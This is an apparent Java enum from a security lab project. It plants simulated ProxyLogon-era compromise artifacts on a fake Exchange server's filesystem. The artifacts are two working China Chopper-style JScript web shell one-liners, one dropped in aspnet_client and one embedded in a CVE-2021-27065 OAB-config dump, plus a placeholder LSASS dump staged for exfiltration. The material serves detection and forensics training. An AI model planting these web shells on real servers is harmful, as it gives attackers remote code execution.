package io.antidote.lab.exchange;

import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.stream.Collectors;

/**
 * Traces an attacker left before the run. Each constant plants its files on a fresh server; the
 * per-CVE log lines (HttpProxy AnchorMailbox, OABGeneratorLog, ECP Set-*VirtualDirectory, the UM
 * event) will be further constants writing under the Logging folders that {@link ExchangeServer}
 * already creates.
 */
public enum Compromise {
    /** A China Chopper in aspnet_client\system_web and a CVE-2021-27065 OAB-config shell in owa\auth. */
    WEBSHELL("webshell") {
        @Override
        void plant(LabFileSystem files, String exchangePath) {
            files.writeFile("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\zxvt0lpt.aspx",
                    "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"Ananas\"],\"unsafe\");}</script>",
                    DROPPED);
            // What CVE-2021-27065 leaves: the OAB virtual directory's settings dumped to a file,
            // the ExternalUrl carrying the shell.
            files.writeFile(exchangePath + "FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx",
                    "Name                            : OAB (Default Web Site)\r\n"
                            + "PollInterval                    : 480\r\n"
                            + "OfflineAddressBooks             :\r\n"
                            + "RequireSSL                      : True\r\n"
                            + "BasicAuthentication             : False\r\n"
                            + "WindowsAuthentication           : True\r\n"
                            + "OAuthAuthentication             : False\r\n"
                            + "InternalUrl                     : https://mail.contoso.local/OAB\r\n"
                            + "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"unsafe\"],\"unsafe\");}</script>\r\n",
                    DROPPED.plusMinutes(2));
        }
    },
    /** A credential dump of LSASS staged in C:\root for exfiltration. */
    LSASS_DUMP("lsass-dump") {
        @Override
        void plant(LabFileSystem files, String exchangePath) {
            files.writeFile("C:\\root\\lsass.dmp", "MDMP\u0093\u00a7\0\0\u000f\0\0\0 lsass minidump", DROPPED.plusMinutes(9));
        }
    };

    /** When the lab's attacker was there: the week ProxyLogon was exploited at scale. */
    static final LocalDateTime DROPPED = LocalDateTime.of(2021, 3, 3, 4, 12, 37);

    private final String specName;

    Compromise(String specName) {
        this.specName = specName;
    }

    public String specName() {
        return specName;
    }

    abstract void plant(LabFileSystem files, String exchangePath);

    public static Compromise fromName(String name) {
        return Arrays.stream(values()).filter(c -> c.specName.equals(name)).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("unknown compromise indicator; known: "
                        + Arrays.stream(values()).map(Compromise::specName).collect(Collectors.joining(", "))));
    }
}
